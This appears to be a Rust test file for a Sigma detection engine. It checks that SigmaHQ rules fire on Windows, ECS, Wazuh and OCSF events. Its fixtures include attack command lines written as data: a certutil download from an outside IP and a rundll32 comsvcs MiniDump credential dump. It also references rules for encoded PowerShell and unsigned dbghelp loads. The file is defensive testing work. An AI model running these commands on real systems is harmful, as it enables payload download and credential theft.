//! Real SigmaHQ rules against events in every layout Palisade evaluates (Windows event-log JSON
//! as `evtx` writes it, ECS, Wazuh 4.x, Wazuh 5.x, OCSF), logsource routing, what a match
//! carries, and per-selection rule testing.

use crate::support::{fixture, sigmahq, text};
use detect::Severity;
use detect::sigma::{Layout, RuleSet, SigmaEvent, testing};
use serde_json::{Value, json};

fn ndjson_line(number: usize) -> Value {
    serde_json::from_str(text("sigma/events.ndjson").lines().nth(number - 1).unwrap()).unwrap()
}

fn titles(set: &RuleSet, event: &Value) -> Vec<String> {
    set.evaluate(event).into_iter().map(|m| m.title).collect()
}

fn all_rules() -> RuleSet {
    RuleSet::new(vec![
        sigmahq("proc_creation_win_certutil_download.yml"),
        sigmahq("proc_creation_win_rundll32_process_dump_via_comsvcs.yml"),
        sigmahq("proc_creation_win_powershell_base64_encoded_cmd.yml"),
        sigmahq("image_load_dll_dbghelp_dbgcore_unsigned_load.yml"),
    ])
}

#[test]
fn a_sysmon_record_in_evtx_json_fires_the_certutil_download_rule() {
    let set = all_rules();
    let event = ndjson_line(1);
    assert_eq!(SigmaEvent::new(&event).layout(), Layout::WindowsEventLog);
    assert_eq!(titles(&set, &event), ["Suspicious Download Via Certutil.EXE"]);
    assert!(titles(&set, &ndjson_line(2)).is_empty(), "certutil -store downloads nothing");
}

#[test]
fn a_process_creation_rule_never_fires_on_an_image_load_event() {
    // Line 3 is a Sysmon image load (event id 7) that even carries the download command line.
    let set = all_rules();
    assert!(titles(&set, &ndjson_line(3)).is_empty());
    let mut as_process = ndjson_line(3);
    as_process["Event"]["System"]["EventID"] = json!(1);
    assert_eq!(titles(&set, &as_process), ["Suspicious Download Via Certutil.EXE"]);
}

#[test]
fn an_image_load_rule_fires_on_an_unsigned_dbghelp_load_only() {
    let set = all_rules();
    let mut load = ndjson_line(3);
    load["Event"]["EventData"]["ImageLoaded"] = json!("C:\\Users\\Public\\dbghelp.dll");
    load["Event"]["EventData"]["Signed"] = json!("false");
    load["Event"]["EventData"]["CommandLine"] = json!("certutil.exe");
    assert_eq!(titles(&set, &load), ["Suspicious Unsigned Dbghelp/Dbgcore DLL Loaded"]);
    load["Event"]["EventData"]["Signed"] = json!("true");
    assert!(titles(&set, &load).is_empty());
}

#[test]
fn an_ecs_process_event_is_read_through_the_ecs_field_mapping() {
    let set = all_rules();
    let alert = fixture("alerts/elastic-alert-nested.json");
    assert_eq!(SigmaEvent::new(&alert).layout(), Layout::Ecs);
    assert_eq!(titles(&set, &alert), ["Suspicious Download Via Certutil.EXE"]);
}

#[test]
fn a_wazuh_4_windows_alert_is_read_through_its_lowercased_eventdata() {
    let set = all_rules();
    let alert = fixture("alerts/wazuh-4x-sysmon-powershell.json");
    assert_eq!(SigmaEvent::new(&alert).layout(), Layout::Wazuh);
    assert_eq!(titles(&set, &alert), ["Suspicious Encoded PowerShell Command Line"]);
}

#[test]
fn a_wazuh_5_finding_is_read_as_ecs_and_its_match_carries_level_and_attack_tags() {
    let set = all_rules();
    let matches = set.evaluate(&fixture("alerts/wazuh-5x-finding.json"));
    assert_eq!(matches.len(), 1);
    let found = &matches[0];
    assert_eq!(found.title, "Process Memory Dump Via Comsvcs.DLL");
    assert_eq!(found.rule_id.as_deref(), Some("646ea171-dded-4578-8a4d-65e9822892e3"));
    assert_eq!(found.level, Severity::High);
    let techniques: Vec<&str> = found.techniques.iter().map(|t| t.as_str()).collect();
    assert_eq!(techniques, ["T1036", "T1003.001"]);
    assert_eq!(found.tactics, ["credential-access"]);
    assert!(found.matched_selections.contains(&"selection_img".to_string()));
}

#[test]
fn an_ocsf_process_activity_is_read_through_the_ocsf_field_mapping() {
    let event = json!({
        "class_uid": 1007, "activity_id": 1, "category_uid": 1, "time": 1718095334106_i64,
        "metadata": {"version": "1.8.0", "product": {"name": "osquery", "vendor_name": "osquery"}},
        "device": {"hostname": "laptop-hr-22", "os": {"type": "Windows", "type_id": 100}},
        "actor": {"user": {"name": "CORP\\dana.kim"}},
        "process": {
            "pid": 9824, "cmd_line": "certutil -urlcache -f https://198.51.100.23/a.bin a.bin",
            "file": {"path": "C:\\Windows\\System32\\certutil.exe", "name": "certutil.exe"},
            "parent_process": {"file": {"path": "C:\\Windows\\System32\\cmd.exe"}}
        }
    });
    assert_eq!(SigmaEvent::new(&event).layout(), Layout::Ocsf);
    assert_eq!(titles(&all_rules(), &event), ["Suspicious Download Via Certutil.EXE"]);
}

#[test]
fn rule_testing_answers_per_event_and_per_selection() {
    let rule = sigmahq("proc_creation_win_certutil_download.yml");
    let verdicts = testing::test_ndjson(&rule, &text("sigma/events.ndjson"));
    assert_eq!(verdicts.len(), 4);
    assert!(verdicts[0].matched);
    let all_true: Vec<(&str, bool)> =
        verdicts[0].selections.iter().map(|(k, v)| (k.as_str(), *v)).collect();
    assert_eq!(
        all_true,
        [("selection_flags", true), ("selection_http", true), ("selection_img", true)]
    );
    assert!(!verdicts[1].matched);
    assert!(verdicts[1].selections["selection_img"]);
    assert!(!verdicts[1].selections["selection_flags"]);
    assert!(!verdicts[2].matched);
    assert!(verdicts[2].skipped.as_deref().unwrap().contains("image_load"), "{:?}", verdicts[2]);
    assert_eq!(verdicts[3].line, 4);
    assert!(verdicts[3].error.as_deref().unwrap().starts_with("the line is not JSON"));
}

#[test]
fn the_sigma_test_command_prints_one_json_line_per_event() {
    let out = testing::run(
        &text("sigma/sigmahq/proc_creation_win_certutil_download.yml"),
        &text("sigma/events.ndjson"),
    )
    .unwrap();
    let lines: Vec<Value> = out.lines().map(|l| serde_json::from_str(l).unwrap()).collect();
    assert_eq!(lines.len(), 4);
    assert_eq!(
        lines[0],
        json!({"line": 1, "matched": true, "selections": {"selection_flags": true, "selection_http": true, "selection_img": true}})
    );
    assert_eq!(lines[1]["matched"], false);
}

#[test]
fn event_data_names_with_spaces_answer_to_sigma_names_without_them() {
    let rule = detect::sigma::SigmaRule::parse(
        "title: Defender EICAR\nlogsource:\n    product: windows\n    service: windefend\ndetection:\n    selection:\n        EventID: 1116\n        ThreatName|endswith: 'EICAR_Test_File'\n    condition: selection\n",
    )
    .unwrap();
    let event = json!({"Event": {
        "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Windows Defender"}}, "EventID": 1116,
                   "Channel": "Microsoft-Windows-Windows Defender/Operational", "Computer": "ws-01"},
        "EventData": {"Threat Name": "Virus:DOS/EICAR_Test_File", "Severity Name": "Severe", "Source Name": "Real-Time Protection"}
    }});
    let set = RuleSet::new(vec![rule]);
    assert_eq!(titles(&set, &event), ["Defender EICAR"]);
    let mut sysmon = event.clone();
    sysmon["Event"]["System"]["Channel"] = json!("Microsoft-Windows-Sysmon/Operational");
    assert!(titles(&set, &sysmon).is_empty(), "a windefend rule does not fire on a sysmon event");
}

#[test]
fn flat_events_without_logsource_hints_are_evaluated_against_every_rule() {
    let event = json!({
        "Image": "C:\\Windows\\System32\\rundll32.exe",
        "CommandLine": "rundll32.exe comsvcs.dll MiniDump 624 C:\\t\\l.dmp full"
    });
    assert_eq!(SigmaEvent::new(&event).layout(), Layout::Flat);
    assert_eq!(titles(&all_rules(), &event), ["Process Memory Dump Via Comsvcs.DLL"]);
}

#[test]
fn a_rule_fires_only_on_events_whose_product_it_admits() {
    let rule = |title: &str, product: &str| {
        let product = match product {
            "" => String::new(),
            named => format!("    product: {named}\n"),
        };
        detect::sigma::SigmaRule::parse(&format!(
            "title: {title}\nlogsource:\n    category: process_creation\n{product}detection:\n    selection:\n        Image|endswith: '/curl'\n    condition: selection\n"
        ))
        .unwrap()
    };
    let set = RuleSet::new(vec![
        rule("Linux curl", "linux"),
        rule("Windows curl", "Windows"),
        rule("Any curl", ""),
    ]);
    let windows = json!({"Event": {
        "System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}}, "EventID": 1,
                   "Channel": "Microsoft-Windows-Sysmon/Operational"},
        "EventData": {"Image": "C:/tools/curl"}
    }});
    assert_eq!(titles(&set, &windows), ["Windows curl", "Any curl"]);
    let linux = json!({"@timestamp": "2026-12-01T10:00:00Z", "host": {"os": {"type": "linux"}},
        "event": {"category": ["process"], "type": ["start"]}, "process": {"executable": "/usr/bin/curl"}});
    assert_eq!(titles(&set, &linux), ["Linux curl", "Any curl"]);
    let unknown = json!({"Image": "/usr/bin/curl"});
    assert_eq!(titles(&set, &unknown), ["Linux curl", "Windows curl", "Any curl"]);
}
